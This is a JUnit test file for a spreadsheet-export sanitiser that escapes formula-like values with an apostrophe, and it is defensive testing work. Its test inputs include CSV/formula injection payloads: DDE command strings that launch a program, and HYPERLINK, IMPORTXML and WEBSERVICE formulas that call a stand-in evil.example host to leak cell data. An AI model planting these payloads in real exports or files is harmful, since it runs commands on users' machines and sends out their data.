// SPDX-License-Identifier: EPL-2.0
package org.broadsheet.core.exports;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What spreadsheet programs run gets an apostrophe, what only looks alike stays as it is. */
class FormulaGuardTest {

	@ParameterizedTest
	@ValueSource(strings = { "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
			"=DDE(\"cmd\";\"/C calc\";\"x\")", "+cmd|' /C calc'!A0", "+A1", "+SUM(1;2)", "-cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-A1", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\t=1+1", "\r=1+1",
			"\n=1+1", "\0=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff20SUM(1)", "-", "--", "+x", "-1e5x", "=", "@" })
	void formulasBecomeText(String payload) {
		String expected = payload.equals("-") ? payload : "'" + payload;
		assertEquals(expected, FormulaGuard.safe(payload));
	}

	@ParameterizedTest
	@ValueSource(strings = { "-5", "+5", "-0.5", "-1,234.50", "-1 234,50", "-.5", "-5%", "-1.5E+10", "-$12.50", "-12.50\u20ac", "+1 203 555 0100", "+1-203-555-0100", "+1 (203) 555-0100", "+44/20/7946 0958",
			"Hartford", "a=b", "user@example.org", "1+1", "'quoted", "(5)", "", " ", "#1", "2020-01-01" })
	void numbersAndTextsStay(String text) {
		assertEquals(text, FormulaGuard.safe(text));
	}

	@ParameterizedTest
	@CsvSource(delimiter = '#', quoteCharacter = '~', value = { "Smith; =cmd|' /C calc'!A0;x#Smith;' =cmd|' /C calc'!A0;x", "x;\"=1+1\"#x;'\"=1+1\"", "a;@SUM(1);-2+3+cmd|' /C'!A0#a;'@SUM(1);'-2+3+cmd|' /C'!A0",
			"Smith, =1+1#Smith, =1+1", "a;b=c; -5; - item; x#a;b=c; -5; - item; x", "=1;=2#'=1;'=2", "plain#plain", ";#;" })
	void whatOtherSeparatorsMakeOfItIsTextToo(String text, String safe) {
		assertEquals(safe, FormulaGuard.safe(text, ','));
	}

	@Test
	void linesAndTheOwnSeparatorAreKnown() {
		assertEquals("a\n'=1+1\r\n- item\n", FormulaGuard.safe("a\n=1+1\r\n- item\n", ','));
		assertEquals("a;=1,'=2", FormulaGuard.safe("a;=1,=2", ';'));
	}
}
